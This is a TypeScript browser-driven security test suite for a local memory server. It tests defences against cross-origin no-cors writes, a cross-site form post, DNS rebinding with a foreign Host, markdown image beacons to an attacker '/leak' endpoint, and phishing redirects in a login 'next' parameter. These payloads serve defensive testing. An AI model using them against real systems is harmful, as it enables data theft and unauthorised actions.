/**
 * SECURITY.md through the production server and Chromium, in the default no-token loopback mode:
 * - a page served on a second loopback port tries the red team's no-cors writes (a fact, a run, an
 *   MCP call, a bank swap) and nothing changes in the store;
 * - DNS rebinding (a foreign Host) reaches neither an export, MCP nor a server action;
 * - markdown with a remote image sends no request out from the run page, the model preview or /memory;
 * - a 14 MB bundle imports over HTTP, a bigger-than-50 MB one gets 413;
 * - malformed paths and server-action bodies get a clean 400 JSON; the login page survives a newline.
 */
import { readFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Browser, launchBrowser, type RunningApp, startApp } from "./harness";
import { waitForHydrated } from "./pages/hydrated";
import { seedRun } from "./seed-run";

const root = join(import.meta.dirname, "..", "..");

let app: RunningApp;
let browser: Browser;
let evil: { url: string; port: number; hits: string[]; close: () => Promise<void> };

/** The attacker's site: one page on another loopback port, and a /leak endpoint that records hits. */
async function startEvilSite(): Promise<typeof evil> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? "");
    if (req.url?.startsWith("/leak")) {
      res.writeHead(200, { "content-type": "image/gif" });
      res.end(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"));
      return;
    }
    res.writeHead(200, { "content-type": "text/html" });
    res.end("<!doctype html><title>a page you happened to open</title><p>hello</p>");
  });
  // Port 0: the system picks a free port as it listens (no check-then-use race).
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    hits,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

/** A raw request: node's http lets the test set Host and Origin as a browser under rebinding would. */
function raw(
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string | Buffer,
): Promise<{ status: number; contentType: string; text: string }> {
  const { port } = new URL(app.url);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: "127.0.0.1", port, method, path, headers }, (res) => {
      let text = "";
      res.on("data", (d) => {
        text += d;
      });
      res.on("end", () =>
        resolve({ status: res.statusCode ?? 0, contentType: String(res.headers["content-type"] ?? ""), text }),
      );
    });
    req.on("error", reject);
    if (body) req.write(body);
    req.end();
  });
}

async function storeState(): Promise<{ facts: string[]; runs: number; models: number }> {
  const bundle = await (await fetch(`${app.url}/api/v1/banks/demo/export`)).json();
  const runs = await (await fetch(`${app.url}/api/v1/runs?limit=200`)).json();
  return {
    facts: bundle.facts.map((f: { text: string }) => f.text),
    runs: runs.runs.length,
    models: bundle.mentalModels.length,
  };
}

/** A real server action id from this build (the start-run form's action). */
function startRunActionId(): string {
  const manifest = JSON.parse(readFileSync(join(root, ".next/server/server-reference-manifest.json"), "utf8"));
  const entry = Object.entries(manifest.node as Record<string, { exportedName: string }>).find(
    ([, v]) => v.exportedName === "startRunAction",
  );
  if (!entry) throw new Error("startRunAction is not in the build's server reference manifest");
  return entry[0];
}

beforeAll(async () => {
  // A server of its own: the rebinding/Host tests depend on INSPECTOR_PUBLIC_URL (the server's
  // environment), and the tests replace and export the whole demo bank other files read.
  app = await startApp({ INSPECTOR_TOKEN: "", INSPECTOR_PUBLIC_URL: "" });
  browser = await launchBrowser();
  evil = await startEvilSite();
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await evil?.close();
});

describe("a web page on another loopback port cannot drive the local server", () => {
  it("no-cors text/plain writes (fact, run, MCP, bank swap, form post) change nothing", async () => {
    const before = await storeState();
    const bundle = await (await fetch(`${app.url}/api/v1/banks/demo/export`)).json();
    bundle.facts = [];
    bundle.mentalModels = [];
    const { page } = browser;
    await page.goto(`${evil.url}/`);
    const outcomes = await page.evaluate(
      async ({ target, swap }) => {
        const post = (path: string, body: string) =>
          fetch(`${target}${path}`, {
            method: "POST",
            mode: "no-cors",
            headers: { "content-type": "text/plain" },
            body,
          }).then(
            (r) => r.type,
            (e) => String(e),
          );
        return Promise.all([
          post("/api/v1/banks/demo/facts", JSON.stringify({ facts: [{ text: "planted by a web page" }] })),
          post("/api/v1/banks/demo/reflect", JSON.stringify({ question: "planted by a web page?" })),
          post(
            "/api/mcp",
            JSON.stringify({
              jsonrpc: "2.0",
              id: 1,
              method: "tools/call",
              params: { name: "memory_retain", arguments: { facts: [{ text: "planted by a web page via MCP" }] } },
            }),
          ),
          post("/api/v1/banks/import?replace=true", JSON.stringify(swap)),
        ]);
      },
      { target: app.url, swap: bundle },
    );
    // The browser sent them (opaque responses): the server is what must refuse.
    expect(outcomes).toEqual(["opaque", "opaque", "opaque", "opaque"]);

    // A classic cross-site form post (no JavaScript needed) is refused the same way.
    await page.setContent(
      `<form method="post" enctype="text/plain" action="${app.url}/api/v1/banks/demo/facts">
         <input name='{"facts":[{"text":"planted by a form","x":"' value='"}]}'></form>`,
    );
    const [response] = await Promise.all([
      page.waitForResponse((r) => r.url().includes("/api/v1/banks/demo/facts")),
      page.locator("form").evaluate((f: HTMLFormElement) => f.submit()),
    ]);
    expect(response.status()).toBe(403);

    await new Promise((r) => setTimeout(r, 500));
    const after = await storeState();
    expect(after.facts).toEqual(before.facts);
    expect(after.facts.some((t) => t.includes("planted"))).toBe(false);
    expect(after.runs).toBe(before.runs);
    expect(after.models).toBe(before.models);
  });

  it("DNS rebinding (Host: evil.example) reaches neither an export, MCP nor a server action", async () => {
    const before = await storeState();
    const host = `evil.example:${new URL(app.url).port}`;
    const exported = await raw("GET", "/api/v1/banks/demo/export", { host });
    expect(exported.status).toBe(403);
    expect(JSON.parse(exported.text).error.code).toBe("forbidden_host");
    const mcp = await raw(
      "POST",
      "/api/mcp",
      {
        host,
        origin: `http://${host}`,
        "content-type": "application/json",
        accept: "application/json, text/event-stream",
      },
      JSON.stringify({
        jsonrpc: "2.0",
        id: 1,
        method: "tools/call",
        params: { name: "memory_reflect", arguments: { question: "rebinding?" } },
      }),
    );
    expect(mcp.status).toBe(403);
    const action = await raw(
      "POST",
      "/runs/new",
      { host, origin: `http://${host}`, "next-action": startRunActionId(), "content-type": "text/plain;charset=UTF-8" },
      JSON.stringify([{ bankId: "demo", question: "planted by rebinding" }]),
    );
    expect(action.status).toBe(403);
    // The same action from another origin on the right Host is refused too; from no origin it runs.
    const crossOrigin = await raw(
      "POST",
      "/runs/new",
      { origin: evil.url, "next-action": startRunActionId(), "content-type": "text/plain;charset=UTF-8" },
      JSON.stringify([{ bankId: "demo", question: "planted cross-origin" }]),
    );
    expect(crossOrigin.status).toBe(403);
    expect(await storeState()).toEqual(before);
  });
});

describe("markdown never loads remote resources", () => {
  it("a remote image in a fact, a model and an answer sends no request from the run page, the preview or /memory", async () => {
    const leak = (what: string) => `![pixel](${evil.url}/leak?d=${what})`;
    const retained = await fetch(`${app.url}/api/v1/banks/demo/facts`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ facts: [{ text: `Launch notes ${leak("fact")}` }] }),
    });
    expect(retained.status).toBe(201);
    const model = await fetch(`${app.url}/api/v1/banks/demo/mental-models`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({
        id: "mm-leaky",
        name: "Leaky",
        sourceQuery: "leaky?",
        content: `# Plan\n\n${leak("model")}`,
      }),
    });
    expect(model.status).toBe(201);

    const golden = readFileSync(join(root, "test/fixtures/golden/fresh.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line.replaceAll("run_golden_fresh", "run_leaky_answer")));
    const finished = golden.at(-1);
    finished.payload.answer = `Atlas launches on March 14. ${leak("answer")}`;
    const run = await seedRun(app, "run_leaky_answer", "When is the Atlas launch?");
    await run.append(golden);
    await run.finish(golden);
    run.close();

    const { page } = browser;
    const blocked: string[] = [];
    page.on("request", (r) => {
      if (r.url().startsWith(evil.url)) blocked.push(r.url());
    });
    evil.hits.length = 0;

    await page.goto(`${app.url}/runs/run_leaky_answer`);
    await page.getByTestId("run-view").waitFor();
    const answerTab = page.getByTestId("run-tab-answer");
    if (await answerTab.count()) await answerTab.click();
    await page.getByTestId("markdown-image-link").first().waitFor();
    expect(await page.getByTestId("markdown-image-link").first().getAttribute("href")).toContain("/leak?d=answer");

    await page.goto(`${app.url}/mental-models/mm-leaky?bank=demo`);
    await page.getByTestId("content-tab-preview").click();
    await page.getByTestId("markdown-preview").getByTestId("markdown-image-link").waitFor();

    for (const tier of ["facts", "mental_models"]) {
      await page.goto(`${app.url}/memory?tier=${tier}`);
      await page.waitForLoadState("networkidle");
    }
    expect(await page.locator(`img[src^="${evil.url}"]`).count()).toBe(0);
    expect(blocked).toEqual([]);
    expect(evil.hits).toEqual([]);
  });

  it("pages carry the CSP (nonce, no remote images, no framing) and nosniff, and still work under it", async () => {
    const res = await fetch(`${app.url}/runs`);
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("img-src 'self' data:");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    const nonce = /'nonce-([^']+)'/.exec(csp)?.[1] ?? "";
    expect(await res.text()).toContain(`nonce="${nonce}"`);
    // Hydrated under the policy, and nothing the page needs is blocked.
    const errors: string[] = [];
    browser.page.on("console", (m) => {
      if (m.type() === "error" && /Content Security Policy/i.test(m.text())) errors.push(m.text());
    });
    await browser.page.goto(`${app.url}/runs`);
    // React hydrated the page (its scripts ran with the nonce).
    await waitForHydrated(browser.page, "live-run-table");
    expect(errors).toEqual([]);
  });
});

describe("bundles of any documented size move over HTTP", () => {
  it("imports a 14 MB bundle (it was cut at 10 MiB) and refuses one over 50 MB with 413", async () => {
    const bundle = await (await fetch(`${app.url}/api/v1/banks/demo/export`)).json();
    bundle.bank = { id: "big", name: "Big bank", permittedTeams: [] };
    bundle.observations = [];
    bundle.mentalModels = [];
    const filler = "x".repeat(220);
    bundle.facts = Array.from({ length: 50_000 }, (_, i) => ({
      id: `f-${i}`,
      text: `Fact ${i}: ${filler}`,
      kind: "world",
      tags: [],
      scope: "personal",
      recordedAt: "2026-01-01T00:00:00.000Z",
    }));
    const body = JSON.stringify(bundle);
    expect(body.length).toBeGreaterThan(14_000_000);
    const imported = await fetch(`${app.url}/api/v1/banks/import`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body,
    });
    expect(imported.status).toBe(201);
    expect((await imported.json()).counts.facts).toBe(50_000);

    const huge = Buffer.alloc(52_000_000, 0x20);
    huge.write('{"version":1,"facts":[');
    const refused = await fetch(`${app.url}/api/v1/banks/import`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: huge,
    });
    expect(refused.status).toBe(413);
    expect((await refused.json()).error.code).toBe("body_too_large");
  }, 180_000);
});

describe("malformed input gets a clean 4xx", () => {
  it("answers %ff%fe in a path id with a 400 JSON on every dynamic route (it was a plain-text 500)", async () => {
    for (const path of [
      "/api/v1/runs/%ff%fe",
      "/api/v1/runs/%ff%fe/events",
      "/api/v1/banks/%ff%fe/export",
      "/api/v1/banks/demo/skills/%ff%fe",
      "/api/v1/banks/demo/mental-models/%ff%fe",
      "/api/runs/%ff%fe/otlp",
      "/runs/%ff%fe",
      "/mental-models/%ff%fe",
    ]) {
      const res = await raw("GET", path, {});
      expect(res.status, path).toBe(400);
      expect(res.contentType, path).toMatch(/json/);
    }
  });

  it("answers a malformed server-action body with a 400 JSON (it was a 500)", async () => {
    for (const [contentType, body] of [
      ["text/plain;charset=UTF-8", "{{{"],
      ["text/plain;charset=UTF-8", '"$@1"'],
      ["multipart/form-data; boundary=zz", "--zz\r\ngarbage"],
    ] as const) {
      const res = await raw(
        "POST",
        "/runs/new",
        { "next-action": startRunActionId(), "content-type": contentType },
        body,
      );
      expect(res.status, body).toBe(400);
      expect(res.contentType).toMatch(/json/);
    }
  });

  it("the login page takes a newline or a tab in next without a 500 and keeps next on this site", async () => {
    for (const next of ["%2F%0A%2F127.0.0.1:3299%2Fphish", "%2F%09%2F127.0.0.1:3299%2Fphish"]) {
      const res = await fetch(`${app.url}/login?next=${next}`);
      expect(res.status).toBe(200);
      expect(await res.text()).toMatch(/name="next" value="\/"/);
    }
  });
});
